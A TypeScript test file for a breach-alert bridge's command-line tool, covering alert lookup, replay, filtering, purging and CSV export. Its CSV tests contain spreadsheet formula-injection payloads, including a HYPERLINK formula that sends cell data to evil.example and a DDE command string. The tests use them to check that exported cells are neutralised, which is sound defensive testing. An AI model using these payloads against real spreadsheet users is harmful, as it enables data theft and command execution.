import { test } from 'node:test'
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { startFusionAuthFake } from '../fakes/fusionauth.js'
import { postEvent, userEvent } from '../fakes/fusionauth-events.js'
import { postAlert, startTestBridge, waitFor } from '../helper.js'
import { cli } from '../fixtures/in-process.js'

/** RFC 4180 records (quoted fields, doubled quotes, CRLF). */
function parseCsv (text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++ } else cell += c
  }
  return rows
}

async function bridgeWithAlerts (t: import('node:test').TestContext): Promise<{ env: NodeJS.ProcessEnv, queued: string, tests: string[] }> {
  const bridge = await startTestBridge(t) // no FusionAuth: breach alerts stay queued; test alerts are stored done
  const queued = (await postAlert(bridge.url, { username: 'ruth@acme-corp.io', exposureID: 'exp-q' })).body.alertId as string
  const tests: string[] = []
  for (const n of [1, 2, 3]) tests.push((await postAlert(bridge.url, { username: `probe${n}@example.com`, exposureID: `exp-t${n}` })).body.alertId as string)
  return { env: { BRIDGE_DATABASE: bridge.config.database }, queued, tests }
}

test('alert ids: an unambiguous prefix works as the id; an ambiguous one lists the candidates', async t => {
  const { env, queued, tests } = await bridgeWithAlerts(t)
  const all = [queued, ...tests]
  // Ids are time-ordered: alerts stored close together share a prefix (the first 8 characters within about a
  // minute; fewer when the four straddle a 65.5 s boundary of the timestamp's top 32 bits, hence computed).
  let shared = queued
  while (!all.every(id => id.startsWith(shared))) shared = shared.slice(0, -1)
  assert.ok(shared.replace(/-/g, '').length >= 4, `the ids share only ${JSON.stringify(shared)}`)

  const show = await cli(['alerts', 'show', queued.slice(0, 24).toUpperCase()], env)
  assert.equal(show.code, 0, show.stderr)
  assert.match(show.stdout, new RegExp(`^Alert: +${queued}$`, 'm'))

  const ambiguous = await cli(['alerts', 'show', shared], env)
  assert.equal(ambiguous.code, 2)
  assert.match(ambiguous.stderr, new RegExp(`^breach-bridge: alert id prefix ${shared} is ambiguous; it matches:$`, 'm'))
  for (const id of all) assert.match(ambiguous.stderr, new RegExp(`^ {2}${id} `, 'm'), `candidate ${id} listed`)
  assert.match(ambiguous.stderr, /Give more characters of the id\.\n$/)
  assert.equal(ambiguous.stdout, '')

  const json = await cli(['alerts', 'show', tests[0]!.slice(0, 24), '--json'], env)
  assert.equal((JSON.parse(json.stdout) as { id: string }).id, tests[0])
})

test('alerts replay: by prefix; a replay of what is not dead says why', async t => {
  const fa = await startFusionAuthFake()
  t.after(() => fa.close())
  fa.addUser({ tenantId: fa.tenants[0]!.id, email: 'gone@acme-corp.io' })
  // A group that does not exist: FusionAuth answers 400, the alert goes dead.
  const bridge = await startTestBridge(t, { FUSIONAUTH_URL: fa.url, FUSIONAUTH_API_KEY: fa.apiKey, BRIDGE_ACTIONS: `deactivate,group:${randomUUID()}` })
  const dead = (await postAlert(bridge.url, { username: 'gone@acme-corp.io', exposureID: 'exp-d' })).body.alertId as string
  await waitFor(async () => (await bridge.store.alerts.get(dead))?.state === 'dead', 'the alert to go dead')
  const done = (await postAlert(bridge.url, { username: 'probe@example.com', exposureID: 'exp-t' })).body.alertId as string
  const env = { BRIDGE_DATABASE: bridge.config.database }

  const r = await cli(['alerts', 'replay', dead.slice(0, 24), '--json'], env)
  assert.equal(r.code, 0, r.stderr)
  assert.deepEqual(JSON.parse(r.stdout), { replayed: [dead], notReplayed: [] })

  const notDead = await cli(['alerts', 'replay', done.slice(0, 24)], env)
  assert.equal(notDead.code, 1)
  assert.match(notDead.stderr, new RegExp(`not replayed: ${done} \\(not dead \\(state done\\)\\)`))
})

test('alerts list filters: --state, --outcome, --email, --since (date or duration)', async t => {
  const { env, queued, tests } = await bridgeWithAlerts(t)
  const ids = async (...args: string[]): Promise<string[]> => {
    const r = await cli(['alerts', 'list', ...args, '--json'], env)
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`)
    return (JSON.parse(r.stdout) as Array<{ id: string }>).map(a => a.id)
  }
  const newestFirst = [...tests].reverse()
  assert.deepEqual(await ids('--outcome', 'test'), newestFirst)
  assert.deepEqual(await ids('--state', 'queued'), [queued])
  assert.deepEqual(await ids('--email', ' RUTH@Acme-Corp.io '), [queued])
  assert.deepEqual(await ids('--email', 'probe2@example.com', '--outcome', 'test'), [tests[1]])
  assert.deepEqual(await ids('--since', '1h'), [...newestFirst, queued])
  assert.deepEqual(await ids('--since', '2000-01-01'), [...newestFirst, queued])
  assert.deepEqual(await ids('--since', '2999-01-01T00:00:00Z'), [])
  assert.deepEqual(await ids('--since', '1h', '--limit', '2'), newestFirst.slice(0, 2))
  const none = await cli(['alerts', 'list', '--email', 'nobody@acme-corp.io'], env)
  assert.equal(none.stdout, 'No alerts match.\n')
})

test('alerts list --csv: RFC 4180, and cells that a spreadsheet would run as formulas are prefixed with \'', async t => {
  const bridge = await startTestBridge(t)
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
  const id = (await postAlert(bridge.url, {
    username: 'csv@acme-corp.io',
    exposureID: '+cmd|\' /C calc\'!A0',
    customData: formula,
    exposureDetails: { title: '@SUM(1+1), "quoted"' }
  })).body.alertId as string
  const second = (await postAlert(bridge.url, { username: 'plain@acme-corp.io', exposureID: '-42' })).body.alertId as string
  const r = await cli(['alerts', 'list', '--csv'], { BRIDGE_DATABASE: bridge.config.database })
  assert.equal(r.code, 0, r.stderr)
  assert.ok(r.stdout.endsWith('\r\n'))
  const rows = parseCsv(r.stdout)
  assert.deepEqual(rows[0], ['id', 'receivedAt', 'source', 'state', 'outcome', 'attempts', 'deliveries', 'email', 'usernameHash', 'customData', 'exposureId', 'exposureTitle', 'completedAt'])
  assert.equal(rows.length, 3)
  const byId = new Map(rows.slice(1).map(row => [row[0], Object.fromEntries(rows[0]!.map((h, i) => [h, row[i]]))]))
  const first = byId.get(id)!
  assert.equal(first.customData, `'${formula}`)
  assert.equal(first.exposureId, '\'+cmd|\' /C calc\'!A0')
  assert.equal(first.exposureTitle, '\'@SUM(1+1), "quoted"')
  assert.equal(first.email, 'csv@acme-corp.io')
  assert.equal(byId.get(second)!.exposureId, '\'-42')
  assert.match(r.stdout, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",/, 'quotes doubled inside a quoted cell')
  assert.ok(r.stdout.split('\r\n').slice(0, -1).every(line => /^"([^"]|"")*"(,"([^"]|"")*")*$/.test(line)), 'every cell quoted, the header too')
})

test('alerts list --csv: each ;-separated part of a cell is guarded (Excel in de/fr/es/it/nl splits lines at ;)', async t => {
  const bridge = await startTestBridge(t)
  const id = (await postAlert(bridge.url, {
    username: 'semi@acme-corp.io',
    exposureID: 'a;=HYPERLINK("https://evil.example/reset","Reset");b',
    customData: 'x; +SUM(1);@cmd;-2',
    exposureDetails: { title: 'Forum;=1+1' }
  })).body.alertId as string
  const r = await cli(['alerts', 'list', '--csv'], { BRIDGE_DATABASE: bridge.config.database })
  assert.equal(r.code, 0, r.stderr)
  const rows = parseCsv(r.stdout)
  const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]))
  assert.equal(row.id, id)
  assert.equal(row.exposureId, 'a;\'=HYPERLINK("https://evil.example/reset","Reset");b')
  assert.equal(row.customData, 'x;\' +SUM(1);\'@cmd;\'-2')
  assert.equal(row.exposureTitle, 'Forum;\'=1+1')
  // Read as Excel does where the list separator is ';' (quotes no help): no part starts a formula.
  for (const line of r.stdout.split('\r\n')) {
    for (const part of line.split(';')) assert.ok(!/^\s*[=+\-@]/.test(part), `a formula cell: ${part}`)
  }
})

test('alerts purge: refuses under a day without --force and without --yes off a terminal; keeps tombstones and unfinished alerts', async t => {
  const { env, queued, tests } = await bridgeWithAlerts(t)
  const short = await cli(['alerts', 'purge', '--older-than', '12h', '--yes'], env)
  assert.equal(short.code, 2)
  assert.match(short.stderr, /under 1 day.*--force/)
  const unconfirmed = await cli(['alerts', 'purge', '--older-than', '30d'], env)
  assert.equal(unconfirmed.code, 2)
  assert.match(unconfirmed.stderr, /add --yes/)
  const badDuration = await cli(['alerts', 'purge', '--older-than', 'soon', '--yes'], env)
  assert.equal(badDuration.code, 2)

  const none = await cli(['alerts', 'purge', '--older-than', '30d', '--yes'], env)
  assert.equal(none.code, 0, none.stderr)
  assert.match(none.stdout, /^Purged the personal data of 0 alerts finished before \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ; their tombstones .* remain\.$/m)

  await new Promise(resolve => setTimeout(resolve, 50))
  const all = await cli(['alerts', 'purge', '--older-than', '10ms', '--force', '--yes', '--json'], env)
  assert.equal(all.code, 0, all.stderr)
  assert.equal((JSON.parse(all.stdout) as { purged: number }).purged, 3, 'the three finished test alerts')

  const tomb = await cli(['alerts', 'show', tests[0]!, '--json'], env)
  const rec = JSON.parse(tomb.stdout) as { id: string, email?: string, outcome?: string, purgedAt?: string }
  assert.equal(rec.id, tests[0])
  assert.equal(rec.email, undefined)
  assert.equal(rec.outcome, 'test', 'the tombstone keeps the outcome')
  assert.equal(typeof rec.purgedAt, 'string')
  const kept = JSON.parse((await cli(['alerts', 'show', queued, '--json'], env)).stdout) as { email?: string }
  assert.equal(kept.email, 'ruth@acme-corp.io', 'an unfinished alert keeps its data')
  const text = await cli(['alerts', 'show', tests[0]!], env)
  assert.match(text.stdout, /^Purged: +\S+ \(personal data removed; tombstone kept\)$/m)
})

test('alerts purge on a terminal asks first: anything but yes purges nothing (exit 1), yes purges', async t => {
  const { env } = await bridgeWithAlerts(t)
  const now = Date.parse('2026-03-01T00:00:00Z')
  const question = `Remove the personal data of alerts finished before 2026-01-30T00:00:00.000Z in ${env.BRIDGE_DATABASE}? [y/N] `
  for (const answer of ['n\n', '\n', 'maybe\n']) {
    const declined = await cli(['alerts', 'purge', '--older-than', '30d'], env, { stdin: answer, stdinIsTTY: true, now: () => now })
    assert.equal(declined.code, 1, declined.stderr)
    assert.equal(declined.stderr, `${question}Nothing purged.\n`)
    assert.equal(declined.stdout, '')
  }
  const yes = await cli(['alerts', 'purge', '--older-than', '30d'], env, { stdin: 'yes\n', stdinIsTTY: true, now: () => now })
  assert.equal(yes.code, 0, yes.stderr)
  assert.equal(yes.stderr, question)
  assert.match(yes.stdout, /^Purged the personal data of 0 alerts finished before 2026-01-30 00:00:00Z;/)
})

test('alerts list / show and users list name the source: enzoic, or fusionauth (its detection at a login); --source filters', async t => {
  const fa = await startFusionAuthFake()
  t.after(() => fa.close())
  const user = fa.addUser({ tenantId: fa.tenants[0]!.id, email: 'sam@acme-corp.io' })
  const secret = `Bearer ${randomUUID()}`
  const bridge = await startTestBridge(t, { FUSIONAUTH_URL: fa.url, FUSIONAUTH_API_KEY: fa.apiKey, FUSIONAUTH_WEBHOOK_SECRET: secret })
  const fromEnzoic = (await postAlert(bridge.url, { username: 'sam@acme-corp.io', exposureID: 'exp-sam' })).body.alertId as string
  const posted = await postEvent(bridge.url, userEvent('user.password.breach', user), { authorization: secret })
  assert.equal(posted.status, 200, posted.text)
  const fromFusionAuth = posted.body.alertId as string
  for (const id of [fromEnzoic, fromFusionAuth]) await waitFor(async () => (await bridge.store.alerts.get(id))?.state === 'done', 'the alerts to finish')
  const env = { BRIDGE_DATABASE: bridge.config.database }

  const list = await cli(['alerts', 'list'], env)
  assert.equal(list.code, 0, list.stderr)
  assert.match(list.stdout, /^ID +RECEIVED +SOURCE +STATE/m)
  assert.match(list.stdout, new RegExp(`^${fromEnzoic} +\\S+ \\S+ +enzoic +done`, 'm'))
  assert.match(list.stdout, new RegExp(`^${fromFusionAuth} +\\S+ \\S+ +fusionauth +done`, 'm'))
  const json = JSON.parse((await cli(['alerts', 'list', '--json'], env)).stdout) as Array<{ id: string, source: string }>
  assert.deepEqual(json.map(a => [a.id, a.source]), [[fromFusionAuth, 'fusionauth'], [fromEnzoic, 'enzoic']])
  const csv = parseCsv((await cli(['alerts', 'list', '--csv'], env)).stdout)
  assert.deepEqual(csv.slice(1).map(row => [row[0], row[csv[0]!.indexOf('source')]]), [[fromFusionAuth, 'fusionauth'], [fromEnzoic, 'enzoic']])
  const only = JSON.parse((await cli(['alerts', 'list', '--source', 'fusionauth', '--json'], env)).stdout) as Array<{ id: string }>
  assert.deepEqual(only.map(a => a.id), [fromFusionAuth])
  assert.equal((await cli(['alerts', 'list', '--source', 'okta'], env)).code, 2)

  const show = await cli(['alerts', 'show', fromFusionAuth], env)
  assert.match(show.stdout, /^Source: +fusionauth \(its breached password detection, at a login\)$/m)
  assert.match((await cli(['alerts', 'show', fromEnzoic], env)).stdout, /^Source: +enzoic$/m)
  assert.equal(JSON.parse((await cli(['alerts', 'show', fromFusionAuth, '--json'], env)).stdout).source, 'fusionauth')

  const users = await cli(['users', 'list'], env)
  assert.match(users.stdout, new RegExp(`^${user.id} +${user.tenantId} +sam@acme-corp\\.io +fusionauth +- +actioned`, 'm'))
  assert.match(users.stdout, new RegExp(`^${user.id} +${user.tenantId} +sam@acme-corp\\.io +enzoic +exp-sam +actioned`, 'm'))
  const rows = JSON.parse((await cli(['users', 'list', '--json'], env)).stdout) as Array<{ source: string, exposureId?: string }>
  assert.deepEqual(rows.map(r => [r.source, r.exposureId ?? null]), [['fusionauth', null], ['enzoic', 'exp-sam']], 'FusionAuth\'s detection is an exposure of its own')
  const usersCsv = parseCsv((await cli(['users', 'list', '--csv'], env)).stdout)
  assert.deepEqual(usersCsv.slice(1).map(row => row[usersCsv[0]!.indexOf('source')]), ['fusionauth', 'enzoic'])
})
